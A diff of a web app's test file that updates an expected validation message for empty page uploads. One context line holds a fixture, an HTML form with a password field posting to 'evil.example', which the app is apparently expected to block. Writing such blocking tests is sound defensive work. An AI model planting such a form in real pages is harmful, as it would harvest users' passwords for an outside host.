@@ -118,7 +118,10 @@ test('shows the error of a page at its field and keeps the typed values', async 
   const bea = await signUp(h, 'bea')
   const form = hiddenFields(String((await bea.open('/new')).body), '/new/page')
   const empty = await bea.send('/new/page', { ...form, html: ' ', title: 'Knots' })
-  expect([empty.status, alertText(empty)]).toEqual([400, 'Choose an HTML file or paste its text.'])
+  expect([empty.status, alertText(empty)]).toEqual([
+    400,
+    'Choose an HTML file or a zip, or paste HTML.',
+  ])
   expect(String(empty.body)).toMatch(/name="title"\s+value="Knots"/)
   const html = '<form action="https://evil.example"><input type=password></form>'
   const blocked = await bea.send('/new/page', { ...form, html })
